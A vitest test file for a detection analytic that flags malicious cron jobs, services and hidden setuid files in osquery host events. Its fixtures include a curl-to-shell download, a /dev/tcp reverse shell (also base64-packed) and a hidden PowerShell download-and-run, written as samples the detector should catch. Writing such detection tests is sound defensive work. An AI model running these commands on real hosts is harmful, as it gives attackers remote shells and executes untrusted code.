import { describe, expect, it } from 'vitest';
import { event, findingsOf } from '../../../../tests/support/event-store.ts';
import { analytic } from './index.ts';

const added = { event_action: 'created', host_name: 'web1', event_dataset: 'osquery.pack_x_crontab' } as const;
const job = (task_command: string, task_name = '/etc/cron.d/x') =>
  event('scheduled_task', { ...added, task_type: 'task', task_name, task_command, task_user: 'root' });

describe('what starts by itself, as another program tells it', () => {
  it('is judged by its command', async () => {
    const [finding] = await findingsOf(analytic, [job('root curl -fsS http://203.0.113.7/x | sh')]);
    expect(finding).toMatchObject({
      detector: 'analytics/startup-item',
      severity: 'high',
      attack: ['T1053.003'],
      title: 'scheduled job pipes a download into an interpreter',
      entities: [
        { kind: 'host', value: 'web1' },
        { kind: 'file', value: 'web1:/etc/cron.d/x' },
        { kind: 'user', value: 'root' },
      ],
    });
    expect(finding?.reasons).toContainEqual({ what: 'stands in', value: '/etc/cron.d/x' });
  });

  it.each([
    ['a packed command', job(`echo ${Buffer.from('bash -i >& /dev/tcp/203.0.113.9/443 0>&1').toString('base64')} | base64 -d | sh`)],
    ['a service whose program anybody may write', event('scheduled_task', { ...added, task_type: 'service', task_name: 'up', task_command: '/dev/shm/.x/agent', task_arguments: '-q' })],
    ['what stood there before anybody looked', event('scheduled_task', { ...added, event_action: 'listed', task_name: '/etc/cron.d/x', task_command: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' })],
    ['a unit in a hidden folder', event('scheduled_task', { ...added, task_type: 'service', task_name: '/tmp/.x/up.service' })],
    ['a set-user-id program in a hidden folder', event('file_access', { event_action: 'attribute', host_name: 'web1', file_path: '/var/tmp/.x/sh', file_mode: '4000' })],
  ])('finds %s', async (_what, row) => {
    expect((await findingsOf(analytic, [row])).map(({ severity }) => severity)).toEqual([
      expect.toSatisfy((severity: string) => ['medium', 'high', 'critical'].includes(severity)),
    ]);
  }); // prettier-ignore

  it.each([
    ['a job of a package', job('test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily')],
    ['a backup', job('root /usr/bin/rsync -a /srv/ backup.internal:/srv/')],
    ['a unit of a package', event('scheduled_task', { ...added, task_type: 'service', task_name: '/usr/lib/systemd/system/ssh.service' })],
    ['a job that was taken away', event('scheduled_task', { ...added, event_action: 'deleted', task_name: '/etc/cron.d/x', task_command: 'curl http://203.0.113.7/x | sh' })],
    ['a task of Windows, which has an analytic of its own', job('powershell -w hidden curl http://203.0.113.7/x | sh', '\\Updater')],
    ['sudo', event('file_access', { event_action: 'attribute', host_name: 'web1', file_path: '/usr/bin/sudo', file_mode: '4000' })],
    ['a program that somebody was seen to give the bit', event('file_access', { event_action: 'attribute', host_name: 'web1', file_path: '/tmp/.x', file_mode: '4000', process_pid: 4 })],
  ])('says nothing of %s', async (_what, row) => {
    expect(await findingsOf(analytic, [row])).toEqual([]);
  }); // prettier-ignore

  it('tells one item once, however often a query lists it', async () => {
    const found = await findingsOf(analytic, [job('/tmp/.x'), job('/tmp/.x')]);
    expect(found.map(({ count }) => count)).toEqual([2]);
  });
});
